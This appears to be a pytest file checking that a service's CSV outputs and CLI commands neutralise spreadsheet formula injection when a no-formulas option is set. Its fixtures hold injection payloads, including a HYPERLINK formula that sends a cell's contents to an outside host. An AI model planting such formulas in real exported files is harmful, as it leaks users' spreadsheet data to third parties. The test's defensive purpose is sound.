"""CSV for a spreadsheet: with `--no-formulas` (`no_formulas=true` over HTTP) no text of it is run,
numbers stay numbers, and what was there can be had back.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import polars as pl
import pytest
from litestar.testing import TestClient

from estimates.contract.contract_file import parse_contract
from estimates.render.formula_text import MARKED
from estimates.store.store import Store
from estimates_api.app import create_app
from estimates_api.http.representation import CSV
from tests.builders import make_store, provenance
from tests.jobs.cli.calls import call, ok

LINK = '=HYPERLINK("http://elsewhere/?x="&A1)'
KEYS = (LINK, "'=1", "@SUM(A1)", "-2+3", "plain")
WHY = "+1 better"
CONTRACT = """\
name = "cells"
owner = "@team"
[key.name]
type = "string"
[columns.value]
[columns."=note"]
role = "attribute"
type = "string"
[columns.change]
role = "attribute"
"""
RUNS = re.compile("[=+\\-@\t\r\n＝]")
NUMBER = re.compile(r"-?\d+(\.\d+)?(e-?\d+)?")
V1 = "/v1/sets/cells"
PATHS = (
    f"{V1}/estimates/%40SUM%28A1%29",
    f"{V1}/estimates",
    f"{V1}/estimates?order=-value",
    f"{V1}/history/%40SUM%28A1%29",
    f"{V1}/versions/2/data",
    f"{V1}/versions/2/data?format=csv&fields=%3Dnote,change",
    f"{V1}/diff/changes?from=1&to=2",
    f"{V1}/triangle",
    f"{V1}/triangle/%40SUM%28A1%29",
)
# Which have no text of a key or a value, and are answered all the same.
WITHOUT_TEXT = (f"{V1}/stability", f"{V1}/accuracy")
COMMANDS = (
    ("export", "cells", "-o", "-"),
    ("get", "cells", LINK),
    ("get", "cells"),
    ("history", "cells", LINK),
    ("diff", "cells", "1", "2", "--changes"),
    ("triangle", "cells"),
    ("log", "cells"),
    ("sql", 'SELECT name AS "=name" FROM cells'),
)


@pytest.fixture(scope="module")
def store(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Store]:
    """A set whose keys, texts, column names, owner and reasons try a spreadsheet."""
    store = make_store(tmp_path_factory.mktemp("cells") / "store")
    store.define(parse_contract(CONTRACT), CONTRACT)
    for number, level in ((1, 100.0), (2, 101.5)):
        frame = pl.DataFrame(
            {
                "name": KEYS,
                "value": [level + i for i in range(len(KEYS))],
                "=note": [LINK, "", "plain", "\t=1", "a, b"],
                "change": [-0.5] * len(KEYS),
            }
        )
        store.publish("cells", frame, provenance(f"run{number}", number))
        store.judge("cells", number)
        store.promote("cells", number, reason=WHY)
    yield store
    store.catalog.engine.dispose()


@pytest.fixture(scope="module")
def client(store: Store) -> Iterator[TestClient[Any]]:
    """The service over it."""
    with TestClient(create_app(store)) as client:
        yield client


def cells(text: bytes) -> list[list[str]]:
    """The cells of a CSV, as a spreadsheet reads them."""
    return list(csv.reader(io.StringIO(text.decode(), newline="")))


def assert_harmless(plain: bytes, safe: bytes) -> None:
    """Something ran in `plain`; nothing runs in `safe`, whose texts are the same without their
    mark, and whose numbers are untouched.
    """
    assert any(RUNS.match(c) and not NUMBER.fullmatch(c) for row in cells(plain) for c in row)
    assert not [c for row in cells(safe) for c in row if RUNS.match(c) and not NUMBER.fullmatch(c)]
    undone = [[c[1:] if re.match(MARKED, c) else c for c in row] for row in cells(safe)]
    assert undone == cells(plain)


def ask(client: TestClient[Any], path: str) -> Any:
    """An answer as CSV, once it was computed."""
    answer = client.get(path, headers={"accept": CSV})
    while answer.status_code == 202:
        answer = client.get(path, headers={"accept": CSV})
    assert answer.status_code in (200, 404), answer.text
    return answer


@pytest.mark.parametrize("path", PATHS)
def test_routes(client: TestClient[Any], path: str) -> None:
    """Each route that answers CSV; the answer has a tag of its own and the same media type."""
    more = f"{path}{'&' if '?' in path else '?'}no_formulas=true"
    plain, safe = ask(client, path), ask(client, more)
    assert_harmless(plain.content, safe.content)
    assert plain.headers["content-type"] == safe.headers["content-type"]
    assert plain.headers["etag"] != safe.headers["etag"]
    assert ask(client, path.replace("?", "?no_formulas=false&")).content == plain.content


@pytest.mark.parametrize("path", WITHOUT_TEXT)
def test_routes_of_numbers(client: TestClient[Any], path: str) -> None:
    """The others take it too."""
    assert ask(client, f"{path}?no_formulas=true").content == ask(client, path).content


def test_other_forms_are_the_same(client: TestClient[Any]) -> None:
    """It is about CSV: JSON and Parquet have what is there."""
    assert client.get(f"{V1}/estimates?no_formulas=true").json()["estimates"][0]["name"] in KEYS
    whole = f"{V1}/versions/2/data"
    assert client.get(f"{whole}?no_formulas=true").content == client.get(whole).content


def test_a_batch(client: TestClient[Any]) -> None:
    """A batch says it in its body."""
    body = {"keys": [[LINK]]}
    plain, safe = (
        client.post(f"{V1}/estimates", json=body | more, headers={"accept": CSV})
        for more in ({}, {"no_formulas": True})
    )
    assert_harmless(plain.content, safe.content)


@pytest.mark.parametrize("command", COMMANDS, ids=" ".join)
def test_commands(store: Store, command: tuple[str, ...]) -> None:
    """Each command that prints CSV."""
    form = () if command[0] == "export" else ("--format", "csv")
    arguments = (*command, *form, "--store", store.root)
    assert_harmless(ok(*arguments).out, ok(*arguments, "--no-formulas").out)


def test_status(store: Store) -> None:
    """The age of a set goes on between two of them, so here is the owner alone."""
    arguments = ("status", "cells", "--format", "csv", "--store", store.root)
    assert ",@team," in ok(*arguments).text
    assert ",'@team," in ok(*arguments, "--no-formulas").text


def test_files(store: Store, tmp_path: Path) -> None:
    """Files that are written, too; those of another kind are the same."""
    query = ("diff", "cells", "1", "2", "--changes", "--output")
    for command in (query, ("export", "cells", "-o")):
        for name, more in (("plain.csv", ()), ("safe.csv", ("--no-formulas",))):
            ok(*command, tmp_path / name, *more, "--store", store.root)
        assert_harmless(*((tmp_path / name).read_bytes() for name in ("plain.csv", "safe.csv")))
    for name, more in (("a.parquet", ()), ("b.parquet", ("--no-formulas",))):
        ok("export", "cells", "-o", tmp_path / name, *more, "--store", store.root)
    assert (tmp_path / "a.parquet").read_bytes() == (tmp_path / "b.parquet").read_bytes()


def test_every_command_that_prints_csv_has_it() -> None:
    """And export, which writes it; no other one."""
    from estimates_jobs.cli.commands import SECTIONS, cli

    for name in (name for section in SECTIONS.values() for name in section):
        command: Any = cli.get_command(None, name)  # type: ignore[arg-type]
        has = any(parameter.name == "no_formulas" for parameter in command.params)
        assert has == ("csv" in getattr(command, "forms", ()) or name == "export"), name
    assert call("verify", "--no-formulas").code == 2
